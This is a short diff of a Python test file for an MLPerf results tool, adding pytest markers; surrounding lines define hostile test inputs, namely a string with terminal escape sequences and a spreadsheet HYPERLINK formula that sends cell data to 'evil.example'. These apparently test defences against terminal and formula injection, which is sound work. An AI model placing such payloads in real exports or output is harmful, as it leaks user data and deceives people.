@@ -22,6 +22,8 @@ from pipelines.lib.mlperf.rules import ref_for_round
 from support.http_server import LoopbackServer
 from support.logs import make_archive, open_ssd_run, serve_package_rules, system_json
 
+pytestmark = [pytest.mark.slow, pytest.mark.subprocess]
+
 HOSTILE = "Evil\x1b]0;owned\x07 Box\x9d\x00"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 CLI = [str(Path(sys.executable).parent / "mlperf-warehouse")]
